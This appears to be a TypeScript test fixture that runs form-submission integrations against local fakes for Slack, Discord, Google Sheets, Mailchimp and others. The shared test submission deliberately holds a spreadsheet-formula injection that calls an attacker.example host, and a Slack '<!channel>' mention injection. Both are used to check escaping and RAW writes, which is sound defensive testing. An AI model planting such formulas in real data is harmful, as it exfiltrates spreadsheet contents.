import { expect } from 'vitest';
import type { Fault, LoggedRequest } from '@local/fakes/server.js';

/** What one integration type looks like end to end against its local fake (shared by the per-type tests). */
export interface IntegrationCase {
  type: string;
  provider: string;
  body(fakesUrl: string): Record<string, unknown>;
  /** A path fragment of the request that carries a delivery (faults match on it). */
  sendPath: string;
  /** Which requests carry the delivery itself (default: the path contains `sendPath`). */
  isSend?(request: LoggedRequest): boolean;
  /** The provider-shape assertions on that request (the submission is `FIELDS`). */
  checkSent(request: LoggedRequest): void;
  /** The secret the service holds for this integration, read from what the fake received (never in the API). */
  secretIn?(request: LoggedRequest): string;
  /** A permanent failure: the delivery is dead at once; the integration ends in `integrationStatus`. */
  permanent: { faults: Fault[]; integrationStatus: 'active' | 'error' };
  /** A refusal that needs the owner to connect again; undefined for types without credentials. */
  reauth?: { faults: Fault[] };
  /** Marks the test submission in what was sent. */
  checkTest(request: LoggedRequest): void;
}

export const FIELDS = {
  name: 'Ada <!channel> & co',
  email: 'Ada@Example.com',
  message: '=IMPORTXML("http://attacker.example/x","//a")',
};

const body = (r: LoggedRequest) => r.body as any; // eslint-disable-line @typescript-eslint/no-explicit-any
const bearer = (r: LoggedRequest) => (r.headers.authorization ?? '').replace(/^Bearer /, '');

export const CASES: IntegrationCase[] = [
  {
    type: 'chat_a',
    provider: 'slack',
    body: () => ({
      type: 'chat_a',
      label: 'Sales channel',
      config: { message_template: 'New on {{formName}}: {{field:name}}\n{{fields:quote}}' },
    }),
    sendPath: '/services/',
    checkSent(r) {
      const text = body(r).blocks[0].text.text as string;
      expect(body(r).blocks[0]).toMatchObject({ type: 'section', text: { type: 'mrkdwn' } });
      expect(text).toContain('Ada &lt;!channel&gt; &amp; co');
      expect(text).not.toContain('<!channel>');
      expect(text).toContain('> email: Ada@Example.com');
      expect(typeof body(r).text).toBe('string');
    },
    secretIn: (r) => r.path.split('/').pop()!,
    permanent: {
      faults: [{ provider: 'slack', pathIncludes: '/services/', status: 400, body: 'invalid_payload' }],
      integrationStatus: 'active',
    },
    reauth: { faults: [{ provider: 'slack', pathIncludes: '/services/', status: 404, body: 'no_service' }] },
    checkTest: (r) => expect(body(r).blocks[0].text.text).toMatch(/^\[Test\]/),
  },
  {
    type: 'chat_b',
    provider: 'discord',
    body: () => ({ type: 'chat_b' }),
    sendPath: '/api/webhooks/',
    checkSent(r) {
      expect(r.path).toContain('wait=true');
      expect(body(r).allowed_mentions).toEqual({ parse: [] });
      expect(body(r).content).toContain('Ada <!channel> & co');
      expect(body(r).embeds[0].fields).toContainEqual({ name: 'email', value: 'Ada@Example.com', inline: false });
    },
    secretIn: (r) => r.path.split('/')[5]!.split('?')[0]!,
    permanent: {
      faults: [
        {
          provider: 'discord',
          pathIncludes: '/api/webhooks/',
          status: 400,
          body: { message: 'Invalid Form Body', code: 50035 },
        },
      ],
      integrationStatus: 'active',
    },
    reauth: {
      faults: [
        {
          provider: 'discord',
          pathIncludes: '/api/webhooks/',
          status: 404,
          body: { message: 'Unknown Webhook', code: 10015 },
        },
      ],
    },
    checkTest: (r) => expect(body(r).content).toMatch(/^\[Test\]/),
  },
  {
    type: 'spreadsheet',
    provider: 'google',
    body: () => ({ type: 'spreadsheet', config: { columns: ['created_at', 'name', 'fields.email', 'message'] } }),
    sendPath: ':append',
    checkSent(r) {
      expect(r.path).toContain('valueInputOption=RAW');
      expect(r.path).toContain('insertDataOption=INSERT_ROWS');
      expect(decodeURIComponent(r.path)).toContain("'Submissions'!A1:append");
      expect(body(r).majorDimension).toBe('ROWS');
      expect(body(r).values[0].slice(1)).toEqual([FIELDS.name, FIELDS.email, FIELDS.message]);
    },
    secretIn: bearer,
    permanent: {
      faults: [
        {
          provider: 'google',
          pathIncludes: ':append',
          status: 403,
          body: { error: { code: 403, message: 'The caller does not have permission', status: 'PERMISSION_DENIED' } },
        },
      ],
      integrationStatus: 'error',
    },
    reauth: {
      faults: [
        {
          provider: 'google',
          pathIncludes: ':append',
          status: 401,
          body: { error: { code: 401, message: 'Invalid Credentials', status: 'UNAUTHENTICATED' } },
        },
        {
          provider: 'google',
          pathIncludes: '/token',
          status: 400,
          body: { error: 'invalid_grant', error_description: 'Token has been expired or revoked.' },
        },
      ],
    },
    checkTest: (r) => expect(body(r).values[0]).toContain('Test Submitter'),
  },
  {
    type: 'crm',
    provider: 'activecampaign',
    body: (url) => ({
      type: 'crm',
      config: {
        list_id: '7',
        tag_ids: ['3', '4'],
        contact_mapping: { firstName: 'name' },
        custom_field_mappings: [{ field_id: '12', value: 'Source: {{formName}}' }],
      },
      connection: { kind: 'api_key', api_url: `${url}/activecampaign`, api_key: 'ac-key-0123456789-secret' },
    }),
    sendPath: '/contact/sync',
    checkSent(r) {
      expect(r.headers['api-token']).toBe('ac-key-0123456789-secret');
      expect(body(r).contact).toMatchObject({
        email: FIELDS.email,
        firstName: FIELDS.name,
        fieldValues: [{ field: '12', value: 'Source: Contact' }],
      });
    },
    secretIn: (r) => r.headers['api-token']!,
    permanent: {
      faults: [
        {
          provider: 'activecampaign',
          pathIncludes: '/contact/sync',
          status: 422,
          body: { errors: [{ title: 'Email invalid', detail: '', source: { pointer: '/data/attributes/email' } }] },
        },
      ],
      integrationStatus: 'active',
    },
    reauth: {
      faults: [
        { provider: 'activecampaign', pathIncludes: '/contact/sync', status: 403, body: { message: 'Forbidden' } },
      ],
    },
    checkTest: (r) => expect(body(r).contact.email).toBe('test@example.com'),
  },
  {
    type: 'newsletter',
    provider: 'mailchimp',
    body: () => ({ type: 'newsletter', config: { merge_fields: { FNAME: 'name' }, tags: ['website'] } }),
    sendPath: '/members/',
    isSend: (r) => r.method === 'PUT' && r.path.includes('/members/'),
    checkSent(r) {
      expect(r.method).toBe('PUT');
      expect(r.path).toContain('/api/3.0/lists/a1b2c3d4e5/members/');
      expect(body(r)).toEqual({
        email_address: FIELDS.email,
        status_if_new: 'pending',
        merge_fields: { FNAME: FIELDS.name },
      });
    },
    secretIn: bearer,
    permanent: {
      faults: [
        {
          provider: 'mailchimp',
          pathIncludes: '/members/',
          status: 400,
          body: { title: 'Member In Compliance State', status: 400, detail: 'unsubscribed' },
        },
      ],
      integrationStatus: 'active',
    },
    reauth: {
      faults: [
        {
          provider: 'mailchimp',
          pathIncludes: '/members/',
          status: 401,
          body: { title: 'API Key Invalid', status: 401 },
        },
      ],
    },
    checkTest: (r) => expect(body(r).email_address).toBe('test@example.com'),
  },
  {
    type: 'forward_a',
    provider: 'formspree',
    body: () => ({ type: 'forward_a', config: { endpoint_id: 'xqkvabcd' } }),
    sendPath: '/f/xqkvabcd',
    checkSent(r) {
      expect(r.headers.accept).toBe('application/json');
      expect(body(r)).toEqual(FIELDS);
    },
    permanent: {
      faults: [
        {
          provider: 'formspree',
          pathIncludes: '/f/',
          status: 404,
          body: { error: 'Form not found', errors: [{ code: 'FORM_NOT_FOUND', message: 'Form not found' }] },
        },
      ],
      integrationStatus: 'error',
    },
    checkTest: (r) => expect(body(r).formbase_test).toContain('test submission'),
  },
  {
    type: 'forward_b',
    provider: 'web3forms',
    body: () => ({
      type: 'forward_b',
      connection: { kind: 'access_key', access_key: '3f1c2b9e-1111-4222-8333-a44455556666' },
    }),
    sendPath: '/submit',
    checkSent(r) {
      expect(r.headers['content-type']).toContain('application/json');
      expect(body(r)).toEqual({ access_key: '3f1c2b9e-1111-4222-8333-a44455556666', ...FIELDS });
    },
    secretIn: (r) => body(r).access_key,
    permanent: {
      faults: [{ provider: 'web3forms', status: 403, body: { success: false, message: 'This method is not allowed' } }],
      integrationStatus: 'error',
    },
    reauth: {
      faults: [{ provider: 'web3forms', status: 400, body: { success: false, message: 'Invalid Access Key' } }],
    },
    checkTest: (r) => expect(body(r).formbase_test).toContain('test submission'),
  },
  {
    type: 'forward_c',
    provider: 'basin',
    body: () => ({ type: 'forward_c', config: { endpoint_id: 'basin_form_1' } }),
    sendPath: '/f/basin_form_1',
    checkSent(r) {
      expect(r.headers['content-type']).toContain('application/x-www-form-urlencoded');
      expect(r.headers.accept).toBe('application/json');
      expect(body(r)).toEqual(FIELDS);
    },
    permanent: {
      faults: [{ provider: 'basin', status: 422, body: { error: 'invalid submission' } }],
      integrationStatus: 'active',
    },
    checkTest: (r) => expect(body(r).formbase_test).toContain('test submission'),
  },
];
